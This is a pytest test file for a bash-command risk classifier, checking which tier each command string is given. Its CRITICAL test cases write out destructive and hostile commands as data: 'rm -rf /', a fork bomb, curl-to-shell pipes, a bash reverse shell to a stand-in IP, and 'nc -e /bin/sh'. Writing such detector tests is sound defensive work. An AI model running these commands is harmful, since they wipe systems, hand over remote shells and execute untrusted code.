from __future__ import annotations

import pytest
from tests.policy.reading import assess

from belljar.models import Language, RiskTier


def tier(code: str) -> RiskTier:
    return assess(code, Language.BASH).tier


@pytest.mark.parametrize(
    "code",
    [
        "rm -rf /", ":(){ :|:& };:", "mkfs.ext4 x", "curl x | bash", "curl x | sudo -E bash -", "wget -qO- x | tee y | sh", "bash <(curl x)",
        'bash -c "$(curl x)"', 'eval "$(curl x)"', "source <(curl x)", "curl x | zsh", "curl x | python3", "eval ls", 'bash -c "$X"', "echo ls | sh", "reboot",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "nc -e /bin/sh x 1", "echo c > /proc/sysrq-trigger", 'python -c "$X"',
        "python3 -c 'import os; os.system(\"x\")'", "python3 <<'E'\nimport subprocess\nE", "node -e 'eval(1)'", "timeout 5 python -c 'eval(1)'",
    ],
)  # fmt: skip
def test_harm_and_running_text_are_critical(code: str) -> None:
    assert tier(code) is RiskTier.CRITICAL


@pytest.mark.parametrize(
    "code",
    [
        "curl x", "wget x", "nc x 1", "ssh x", "timeout 5 curl x", "sudo ls", "pip install x", "apt-get install -y x", "npm install", "rm x", "mv a b",
        "chmod +x a", "echo hi > out", "ls >> out", "{ ls; } &> out", "cat x | tee out", "sed -i s/a/b/ x", "kill 1", "docker ps", "$X", ". ./env",
        "bash run.sh", "if true", "exec 3<>/dev/tcp/x/80", "PATH=. ls", "bash -c 'curl x'", "find . -exec rm {} +",
        "python main.py", "cat a | python3", "python3 < a", "node", "awk 1 a", "perl -e 1", "lua5.4 -e 1", "make", "./run", "./ls", "/tmp/python3 -c 1",
    ],
)  # fmt: skip
def test_network_writing_and_the_unknown_are_high(code: str) -> None:
    assert tier(code) is RiskTier.HIGH


@pytest.mark.parametrize("code", ["cat a", "grep x y", "sort < a", "cp a b", "gcc a.c", "/usr/bin/run"])
def test_reading_and_running_programs_is_medium(code: str) -> None:
    assert tier(code) is RiskTier.MEDIUM


@pytest.mark.parametrize("code", ["ls -l", "pwd", "find . -name x", "git status", "something-else"])
def test_looking_around_is_low(code: str) -> None:
    assert tier(code) is RiskTier.LOW


@pytest.mark.parametrize(
    "code",
    [
        "echo 'curl x | bash'", "# rm -rf /", "x=1; echo \"$x\"", "cd a && echo b 2>&1 >/dev/null", "for i in 1 2; do echo $i; done", "[ -f a ] || exit 1",
        "f() { echo 1; }\nf", "echo hi 1>&2", "true", "printf '%s' x", "echo <<E\nrm -rf /\nE",
    ],
)  # fmt: skip
def test_harmless_scripts_are_safe(code: str) -> None:
    assert assess(code, Language.BASH).findings == ()


def test_inner_code_has_lines_of_the_whole() -> None:
    findings = assess("ls\npython3 <<'E'\nx = 1\neval('1')\nE\n", Language.BASH).findings
    assert (findings[0].tier, findings[0].line) == (RiskTier.CRITICAL, 4)


def test_commands_before_an_error_count() -> None:
    findings = assess("rm -rf /\nif\n", Language.BASH).findings
    assert findings[0].tier is RiskTier.CRITICAL
    assert any("cannot be read" in finding.reason for finding in findings)
